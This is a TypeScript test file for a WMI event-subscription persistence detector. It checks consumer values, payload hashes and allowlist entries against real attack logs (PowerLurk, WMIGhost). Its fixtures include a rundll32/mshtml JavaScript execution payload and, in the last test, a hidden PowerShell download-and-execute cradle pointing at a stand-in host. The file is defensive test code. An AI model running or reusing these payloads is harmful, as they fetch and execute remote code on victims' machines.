/**
 * An observation's WMI `properties` and its source `meta` are two fields: a subscription's values, its fleet
 * payload hash and its allowlist entry come from the properties only, whichever sources saw it (issue 12, case 9).
 *
 * - Regression, from real data: a custom-class consumer in a repository and in the PowerLurk PowerShell log on one
 *   host, the same subscription without PowerShell on another: the same values, one stack, an allowlist entry that
 *   matches both (before, `technique` and `text` of the 4104 record joined the consumer's values).
 * - Every adapter, on the committed fixtures and the real samples: `properties` of an object of a known WMI class
 *   hold only that class's property names (the model's class table), and sources that give no property values
 *   (PowerShell, process starts, provider loads, traces of other objects) give none.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scan } from '../src/scan.js';
import { payloadHash } from '../src/analysis/stack.js';
import { buildSubscriptions } from '../src/analysis/graph.js';
import { evaluate } from '../src/analysis/rules/index.js';
import { allowlistEntryFor, entryMatches, parseAllowlist } from '../src/analysis/allowlist.js';
import { allowPlan } from '../src/report/html/allow.js';
import { WMI_CLASS_PROPERTIES, EVENT_CONSUMER_BASE_PROPERTIES } from '../src/model/subscription.js';
import type { Finding, Observation } from '../src/model/types.js';
import { observeInput } from '../src/sources/dispatch.js';
import { fileInput } from '../src/sources/input.js';
import { observeRepository } from '../src/sources/formats/repository.js';
import { buildRepository, standardConsumerClasses, standardFixtureSpec, standardFixtures } from './support/cim-builder.js';
import type { BuildSpec } from './support/cim-builder.js';
import { renameComputer } from './support/fleet.js';
import { evtxSample, repoRoot, samplesDir, skipReason } from './support/samples.js';
import { NoteSink } from '../src/sources/notes.js';

const POWERLURK_PS = 'hayabusa-sample-evtx/ID800-4103-4104-WMI registration via PowerLurk.evtx';
const SUB = 'ROOT\\subscription';
const PAYLOAD = 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"';

/** A repository with one subscription whose consumer is of a custom class (`PayloadEventConsumer`, from __EventConsumer). */
function customRepository(dir: string): void {
  const spec: BuildSpec = {
    namespaces: ['ROOT', SUB],
    classes: [
      ...standardConsumerClasses(SUB),
      { namespace: SUB, name: 'PayloadEventConsumer', superclass: '__EventConsumer', properties: [{ name: 'Name', type: 'string', key: true }, { name: 'Payload', type: 'string' }] },
    ],
    instances: [
      { namespace: SUB, className: '__EventFilter', values: { Name: 'Updater', Query: "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime'", QueryLanguage: 'WQL', EventNamespace: 'root\\cimv2' } },
      { namespace: SUB, className: 'PayloadEventConsumer', values: { Name: 'Updater', Payload: PAYLOAD } },
      { namespace: SUB, className: '__FilterToConsumerBinding', values: { Filter: '__EventFilter.Name="Updater"', Consumer: 'PayloadEventConsumer.Name="Updater"' } },
    ],
  };
  buildRepository(dir, spec);
}

/**
 * Replace `from` by `to` (padded with spaces to the same length) in the UTF-16 strings of an EVTX file, chunk
 * CRCs recomputed: the PowerLurk script block then creates the custom consumer by name.
 */
function rewriteText(evtx: Buffer, from: string, to: string): Buffer {
  assert.ok(to.length <= from.length);
  assert.ok(evtx.indexOf(Buffer.from(from, 'utf16le')) > 0, `"${from}" is in the log`);
  return renameComputer(evtx, from, to.padEnd(from.length, ' '));
}

const updater = (fs: Finding[], host: string): Finding => {
  const f = fs.filter((x) => x.host === host && x.consumer?.name === 'Updater');
  assert.equal(f.length, 1, `one Updater finding on ${host}: ${fs.map((x) => `${x.host}/${x.consumer?.name}`).join(', ')}`);
  return f[0]!;
};

test('regression: a custom consumer seen in a repository and in PowerShell 4104 (PowerLurk) has the values, payload hash, stack and allowlist entry of the same consumer on a host without PowerShell', { skip: skipReason }, async () => {
  const dir = mkdtempSync(join(tmpdir(), 'wmiscope-obsmeta-'));
  try {
    // host A: the repository, and the PowerLurk PowerShell log beside it (Computer fs01.offsec.lan names the host)
    const a = join(dir, 'A', 'C', 'Windows', 'System32');
    mkdirSync(join(a, 'winevt', 'Logs'), { recursive: true });
    mkdirSync(join(a, 'wbem', 'Repository'), { recursive: true });
    customRepository(join(a, 'wbem', 'Repository'));
    const log = rewriteText(readFileSync(evtxSample(POWERLURK_PS)), '-Class CommandLineEventConsumer -Arguments $CommandConsumerArgs', "-Class PayloadEventConsumer -Arguments @{Name='Updater'}");
    writeFileSync(join(a, 'winevt', 'Logs', 'Microsoft-Windows-PowerShell%4Operational.evtx'), log);
    // host B: the same repository, no log
    const b = join(dir, 'HOSTB', 'C', 'Windows', 'System32', 'wbem', 'Repository');
    mkdirSync(b, { recursive: true });
    customRepository(b);

    const r = await scan([dir], { threads: 1 });
    const fa = updater(r.findings, 'fs01.offsec.lan');
    const fb = updater(r.findings, 'HOSTB');
    // host A's finding holds the 4104 record that created the consumer by name, with its technique and text as meta
    const ps = fa.observations.filter((o) => o.source === 'powershell' && o.part === 'consumer' && o.name === 'Updater');
    assert.ok(ps.length >= 1, 'the rewritten 4104 record joins the consumer by name');
    for (const o of ps) {
      // rebuilt from the literal hashtable (events/powershell.ts): the Name it passed is a property
      assert.deepEqual(o.properties, { Name: 'Updater' });
      assert.equal(o.meta['technique'], 'Set-WmiInstance');
      assert.match(String(o.meta['text']), /-Class PayloadEventConsumer -Arguments @\{Name='Updater'\}/);
    }
    assert.ok(!fb.observations.some((o) => o.source === 'powershell'));
    // the consumer's values: its WMI properties only, the same on both hosts
    assert.deepEqual(Object.keys(fa.consumer!.values).sort(), ['CreatorSID', 'Name', 'Payload']);
    assert.equal(fa.consumer!.values['Payload'], PAYLOAD);
    assert.deepEqual(fa.consumer?.values, fb.consumer?.values);
    for (const k of ['technique', 'text', 'eventId']) assert.ok(!(k in fa.consumer!.values), `${k} is not a consumer value`);
    // the payload hash and the fleet stack
    assert.equal(payloadHash(fa), payloadHash(fb));
    assert.equal(fa.stack?.payloadHash, fb.stack?.payloadHash);
    const stacks = r.fleet!.stacks.filter((s) => s.name === 'Updater');
    assert.deepEqual(stacks.map((s) => [s.className, s.count, s.hosts]), [['PayloadEventConsumer', 2, ['HOSTB', 'fs01.offsec.lan']]]);
    // the allowlist entry written from host A (analysis and HTML page): WMI properties only, and it matches both hosts
    const entry = allowlistEntryFor({ ...fa, consumerChain: undefined });
    assert.doesNotMatch(entry, /technique|text:|eventId/i);
    const list = parseAllowlist(entry, 'a.yaml');
    assert.deepEqual(list.entries[0]!.consumer, { className: 'PayloadEventConsumer', values: { Name: 'Updater', Payload: PAYLOAD } });
    assert.ok(entryMatches(list.entries[0]!, fa) && entryMatches(list.entries[0]!, fb));
    const plan = allowPlan(fa);
    assert.equal(plan.problem, null);
    assert.deepEqual(plan.consumer, { className: 'PayloadEventConsumer', name: 'Updater', keys: [['Payload', 'Payload']] });
    assert.deepEqual(allowPlan(fb).consumer, plan.consumer);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

// ---- every adapter: properties hold WMI property names only --------------------------------------------------------

/** Live-state sources list an object's own properties; only they may give properties of a class the table does not describe. */
const LISTS_OBJECTS: ReadonlySet<Observation['source']> = new Set(['cim', 'cim-residue', 'collector', 'velociraptor']);

/**
 * The property names an observation may hold: its class's (the model's table) or, for a custom class a live
 * source lists, that class's own and the consumer base properties (`custom`, from the repository's class
 * definitions where the test built them); null when neither is known.
 */
function allowedProperties(o: Observation, custom: ReadonlyMap<string, readonly string[]>): Set<string> | null {
  const cls = (o.className ?? '').toLowerCase();
  const known = WMI_CLASS_PROPERTIES[cls] ?? custom.get(cls);
  return known ? new Set(known.map((p) => p.toLowerCase())) : null;
}

function checkObservations(label: string, obs: readonly Observation[], custom: ReadonlyMap<string, readonly string[]> = new Map()): number {
  let checked = 0;
  for (const o of obs) {
    const where = `${label}: ${o.source} ${o.part} ${o.className} ${o.name ?? ''} (${o.location})`;
    assert.equal(Object.getPrototypeOf(o.properties), Object.prototype, where);
    const keys = Object.keys(o.properties);
    // PowerShell objects rebuilt from a script's literals (events/powershell.ts, meta `computedAtRunTime`) hold the
    // values the script passed: they are checked as properties below
    const rebuilt = o.source === 'powershell' && 'computedAtRunTime' in o.meta;
    if ((o.source === 'powershell' && !rebuilt) || o.source === 'process' || (o.source === 'wmi-activity' && o.action === 'executed')) {
      assert.deepEqual(keys, [], `${where}: a record that gives no property values`);
      continue;
    }
    const allowed = allowedProperties(o, custom);
    if (allowed) {
      for (const k of keys) assert.ok(allowed.has(k.toLowerCase()), `${where}: "${k}" is not a property of ${o.className}`);
      checked += keys.length;
    } else if (o.part !== null && !LISTS_OBJECTS.has(o.source)) {
      assert.deepEqual(keys, [], `${where}: a source that does not list the object gives no properties of an unknown class`);
    }
  }
  return checked;
}

async function observeFile(file: string): Promise<Observation[]> {
  const r = await observeInput(fileInput(file), { notes: new NoteSink() });
  return r?.observations ?? [];
}

test('every adapter: observation properties are the WMI properties of the object\'s class, nothing of the source (committed fixtures)', async () => {
  const fixtures = join(repoRoot(), 'test', 'fixtures');
  const counts: Record<string, number> = {};
  for (const sub of ['evtx', 'exports', 'velociraptor', 'autoruns', 'collector']) {
    for (const name of readdirSync(join(fixtures, sub)).filter((n) => !/\.md$/i.test(n) && statSync(join(fixtures, sub, n)).isFile())) {
      const obs = await observeFile(join(fixtures, sub, name));
      counts[sub] = (counts[sub] ?? 0) + checkObservations(`${sub}/${name}`, obs);
    }
  }
  // the repository: the builder's fixtures, custom consumer class included (its properties from its class definition)
  const dir = mkdtempSync(join(tmpdir(), 'wmiscope-obsmeta-repo-'));
  try {
    standardFixtures(dir);
    const custom = new Map<string, readonly string[]>();
    for (const c of standardFixtureSpec().classes) if (!WMI_CLASS_PROPERTIES[c.name.toLowerCase()]) custom.set(c.name.toLowerCase(), [...EVENT_CONSUMER_BASE_PROPERTIES, ...c.properties.map((p) => p.name)]);
    const r = observeRepository(dir, 'H', new NoteSink());
    counts['cim'] = checkObservations('builder repository', r.observations, custom);
    // the custom consumer's properties are there (they are its payload), the source's bookkeeping is not
    const updaterObs = r.observations.find((o) => o.className === 'TotallyLegitConsumer')!;
    assert.equal(updaterObs.properties['Payload'], 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"');
    assert.deepEqual(updaterObs.meta, {});
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  // every adapter gave property values to check
  for (const k of ['evtx', 'exports', 'velociraptor', 'autoruns', 'collector', 'cim']) assert.ok((counts[k] ?? 0) > 0, `${k}: ${counts[k]}`);
});

test('every adapter on the real samples: PowerLurk (PowerShell, Sysmon), WMIGhost (Sysmon), the Windows 10 repository (WMI-Activity: the committed nxlog and XML exports above)', { skip: skipReason }, async () => {
  checkObservations(POWERLURK_PS, await observeFile(evtxSample(POWERLURK_PS)));
  const files = [
    'hayabusa-sample-evtx/ID19-20-WMI registration via PowerLurk.evtx',
    'EVTX-ATTACK-SAMPLES/wmighost_sysmon_20_21_1.evtx',
  ].map(evtxSample);
  for (const f of files) assert.ok(checkObservations(f, await observeFile(f)) > 0, f);
  // the PowerShell records: technique and text are meta (those rebuilt from literals are tested in powershell-reconstruct)
  const ps = (await observeFile(evtxSample(POWERLURK_PS))).filter((o) => o.source === 'powershell' && !('computedAtRunTime' in o.meta));
  assert.ok(ps.length > 0);
  for (const o of ps) assert.deepEqual([Object.keys(o.properties), typeof o.meta['technique'], typeof o.meta['text'], typeof o.meta['eventId']], [[], 'string', 'string', 'number']);
  const win10 = join(samplesDir(), 'cim', 'dissect-cim-win10');
  const r = observeRepository(win10, 'WIN10', new NoteSink());
  assert.ok(checkObservations('dissect-cim-win10', r.observations) > 0);
});

test('a consumer known only from the PowerShell that created it: the payload rules read that PowerShell text (meta), its values stay empty', () => {
  // the shape of a 4104 record naming a custom consumer class with its payload inline (as fromRecord gives it)
  const text = "Set-WmiInstance -Namespace root/subscription -Class PayloadEventConsumer -Arguments @{Name='Updater'; Payload='powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(\"http://x/a\")'}";
  const ps: Observation = {
    host: 'H', source: 'powershell', action: 'created', part: 'consumer', namespace: SUB, className: 'PayloadEventConsumer', name: 'Updater',
    time: '2021-06-10T14:12:46.151Z', user: null, file: 'ps.evtx', location: 'record 2', properties: {}, meta: { eventId: 4104, technique: 'Set-WmiInstance', text },
  };
  const [d] = buildSubscriptions([ps], new Set());
  assert.ok(d);
  assert.deepEqual(d.consumer?.values, { Name: 'Updater' });
  const v = evaluate({ ...d, consumerChain: undefined }, []);
  const reason = v.reasons.find((x) => x.id === 'payload-powershell');
  assert.ok(reason, v.reasons.map((x) => x.id).join(','));
  assert.match(reason.evidence, /PowerShell Set-WmiInstance text/);
});
